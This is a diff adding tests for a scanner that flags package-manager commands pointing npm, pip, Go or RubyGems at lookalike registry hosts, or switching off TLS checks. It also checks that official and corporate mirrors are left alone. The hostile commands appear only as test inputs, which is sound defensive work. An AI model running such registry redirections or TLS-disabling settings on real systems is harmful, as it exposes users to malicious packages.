@@ -76,3 +76,36 @@ describe('sc-install-near-import: the install fetches a name one letter from the
     expect(verdict(doc('pip install httpx', 'import httpx\nimport json'))).toBe('safe')
   })
 })
+
+describe('sc-registry-lookalike: a package source dressed as a registry or mirror, or trusted without TLS', () => {
+  it('refuses an index, registry or proxy on a host that wears a registry or mirror name it does not own', () => {
+    for (const cmd of [
+      'npm config set registry https://registry.npmjs-secure.net/',
+      'pip config set global.index-url https://pypi.aliyun-mirror.cn.fastpkg.io/simple',
+      'pip install --index-url https://pypi-official.org/simple -r requirements.txt',
+      'go env -w GOPROXY=https://goproxy.golang-cdn.dev,direct',
+      'gem sources --add https://rubygems-cache.net/',
+    ]) expect(strongest(skill(fence('bash', cmd)), 'sc-registry-lookalike'), cmd).toBe('critical')
+    expect(strongest(skill(fence('ini', '[global]\nindex-url = https://pypi.tuna-tsinghua.cn.pkgs.dev/simple')), 'sc-registry-lookalike')).toBe('critical')
+    expect(strongest(skill(fence('', 'registry=https://npmjs-mirror.org/')), 'sc-registry-lookalike')).toBe('critical')
+  })
+  it('withholds an unknown public index that is trusted without TLS checks', () => {
+    expect(strongest(skill(fence('bash', 'pip config set global.index-url https://pkgs.fastwheel.io/simple\npip config set global.trusted-host pkgs.fastwheel.io')), 'sc-registry-lookalike')).toBe('high')
+    expect(strongest(skill(fence('bash', 'npm config set registry https://npm.fastpkg.dev/\nnpm config set strict-ssl false')), 'sc-registry-lookalike')).toBe('high')
+  })
+  it('leaves official registries, the public mirrors and a company index alone', () => {
+    for (const cmd of [
+      'pip config set global.index-url https://pypi.tuna.tsinghua.edu.cn/simple',
+      'pip install -i https://mirrors.aliyun.com/pypi/simple/ requests',
+      'npm config set registry https://registry.npmmirror.com',
+      'npm config set registry https://registry.npmjs.org/',
+      'go env -w GOPROXY=https://goproxy.cn,direct',
+      'pip install --index-url https://pypi.mycorp-internal.com/simple internal-lib',
+      'npm config set registry https://npm.acme-tools.com/',
+      'pip install --trusted-host pypi.corp.local --index-url http://pypi.corp.local/simple lib',
+      'pip install torch --index-url https://download.pytorch.org/whl/cu121',
+      'npm config set @myorg:registry https://npm.pkg.github.com',
+    ]) expect(strongest(skill(fence('bash', cmd)), 'sc-registry-lookalike'), cmd).toBeUndefined()
+    expect(verdict(skill(fence('bash', 'npm config set registry https://registry.npmmirror.com\nnpm install')))).toBe('safe')
+  })
+})
